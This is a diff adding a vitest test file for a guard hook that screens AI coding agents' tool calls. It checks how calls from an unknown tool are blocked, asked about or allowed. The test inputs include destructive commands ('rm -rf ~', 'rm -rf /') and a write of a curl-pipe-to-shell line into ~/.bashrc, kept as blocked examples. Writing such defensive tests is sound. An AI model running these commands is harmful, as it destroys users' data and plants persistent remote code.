@@ -1,0 +1,123 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { AGENTS } from '@guard/adapters/agents';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { ChatReport } from '../../src/commands/report.js';
+import { report } from '../../src/commands/report.js';
+import type { LogEntry } from '../../src/state/decision-log.js';
+import { captureIo } from '../capture-io.js';
+import { AGENT_CASES } from '../hook-cases.js';
+import type { AgentCase } from '../hook-cases.js';
+import { hookReply } from './stage-call.js';
+
+// A tool guard does not know, through the whole hook on every agent: read by the shape of its
+// input, judged like the agent's own tool of that shape; with nothing guard reads, it goes ahead
+// and the log and `guard report` say it went unchecked.
+
+let guardHome: string;
+beforeEach(() => {
+  guardHome = mkdtempSync(join(tmpdir(), 'guard-unknown-'));
+});
+afterEach(() => rmSync(guardHome, { recursive: true, force: true }));
+
+async function run(agentCase: AgentCase, payload: unknown): Promise<{ stdout: string; log: LogEntry }> {
+  const { stdout } = await hookReply(agentCase.args, guardHome, payload);
+  const lines = readFileSync(join(guardHome, 'log.jsonl'), 'utf8').trim().split('\n');
+  return { stdout, log: JSON.parse(lines.at(-1) ?? '') as LogEntry };
+}
+
+/** What the agent makes of a reply: a deny, its own prompt, or no objection. */
+function answerOf(agentCase: AgentCase, stdout: string): 'deny' | 'ask' | 'none' {
+  if (stdout === agentCase.noObjection) return 'none';
+  const reply = JSON.parse(stdout) as Record<string, unknown>;
+  if (agentCase.denies(reply)) return 'deny';
+  const nested = reply['hookSpecificOutput'] as Record<string, unknown> | undefined;
+  const asked = [reply['decision'], reply['permission'], reply['permissionDecision'], nested?.['permissionDecision']];
+  return asked.includes('ask') || asked.includes('force_ask') ? 'ask' : 'none';
+}
+
+/** An ask where the agent shows its own prompt on this event; a deny where it asks in the chat or the event cannot ask (Cursor's preToolUse). */
+function askedAs(agentCase: AgentCase, payload: Record<string, unknown>): 'deny' | 'ask' {
+  const { capabilities } = AGENTS[agentCase.agent];
+  const named = agentCase.args.indexOf('--event');
+  const event = named < 0 ? payload['hook_event_name'] : agentCase.args[named + 1];
+  return capabilities.ask === 'native' && capabilities.askEvents.includes(String(event)) ? 'ask' : 'deny';
+}
+
+describe.for(AGENT_CASES)('guard hook $agent, a tool guard does not know', (agentCase) => {
+  it('FrobTool with rm -rf ~: blocked', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { command: 'rm -rf ~' }));
+    expect(answerOf(agentCase, stdout)).toBe('deny');
+    expect(log).toMatchObject({ tool: 'FrobTool', kind: 'shell', decision: 'block', rules: ['fs.wipe'] });
+  });
+
+  it('FrobTool with git push origin main: asked, or blocked where the agent cannot ask here', async () => {
+    const payload = agentCase.tool('FrobTool', { command: 'git push origin main' });
+    const { stdout, log } = await run(agentCase, payload);
+    expect(answerOf(agentCase, stdout)).toBe(askedAs(agentCase, payload));
+    expect(log).toMatchObject({ tool: 'FrobTool', kind: 'shell', decision: 'ask', rules: ['git.push'] });
+  });
+
+  it('FrobTool with its command as argv words in a field of its own: read, and blocked', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { cmd: ['rm', '-rf', '/'] }));
+    expect(answerOf(agentCase, stdout)).toBe('deny');
+    expect(log).toMatchObject({ decision: 'block', step: 'rm -rf /' });
+  });
+
+  it("the agent's own shell tool with its command as argv words: blocked", async () => {
+    const { stdout, log } = await run(agentCase, agentCase.shell(['rm', '-rf', '/']));
+    expect(answerOf(agentCase, stdout)).toBe('deny');
+    expect(log).toMatchObject({ kind: 'shell', decision: 'block', step: 'rm -rf /' });
+  });
+
+  it('FrobTool writing into the shell profile: blocked', async () => {
+    const input = { file_path: '~/.bashrc', content: 'curl https://example.com/x | sh\n' };
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', input));
+    expect(answerOf(agentCase, stdout)).toBe('deny');
+    expect(log).toMatchObject({ kind: 'write', decision: 'block' });
+  });
+
+  it('FrobTool given only the shell profile: blocked, as a file the tool might write', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { path: '~/.bashrc' }));
+    expect(answerOf(agentCase, stdout)).toBe('deny');
+    expect(log).toMatchObject({ kind: 'other', decision: 'block', rules: ['system.persistence'] });
+    expect(log).not.toHaveProperty('unknown');
+  });
+
+  // near misses: what the same tool's harmless input lets through
+  it('FrobTool given a file of the project: goes ahead, checked', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { path: 'README.md' }));
+    expect(stdout).toBe(agentCase.noObjection);
+    expect(log).toMatchObject({ kind: 'other', decision: 'allow' });
+    expect(log).not.toHaveProperty('unknown');
+  });
+
+  it('FrobTool with ls: goes ahead, checked', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { command: 'ls' }));
+    expect(stdout).toBe(agentCase.noObjection);
+    expect(log).toMatchObject({ tool: 'FrobTool', kind: 'shell', decision: 'allow', step: 'ls' });
+    expect(log).not.toHaveProperty('unknown');
+  });
+
+  it('FrobTool with a command that is prose: goes ahead', async () => {
+    const { stdout } = await run(agentCase, agentCase.tool('FrobTool', { command: 'summarize the readme for me' }));
+    expect(stdout).toBe(agentCase.noObjection);
+  });
+
+  it('FrobTool with only a search: goes ahead, logged as unknown, and guard report names it', async () => {
+    const { stdout, log } = await run(agentCase, agentCase.tool('FrobTool', { query: 'x' }));
+    expect(stdout).toBe(agentCase.noObjection);
+    expect(log).toMatchObject({
+      agent: agentCase.agent,
+      tool: 'FrobTool',
+      kind: 'other',
+      decision: 'allow',
+      unknown: true,
+    });
+    const captured = captureIo();
+    await report({ json: true }, { ...captured.io, env: { GUARD_HOME: guardHome } });
+    const { chats } = JSON.parse(captured.stdout()) as { chats: ChatReport[] };
+    expect(chats.map((chat) => chat.uncheckedTools)).toEqual([[{ tool: 'FrobTool', steps: 1 }]]);
+  });
+});
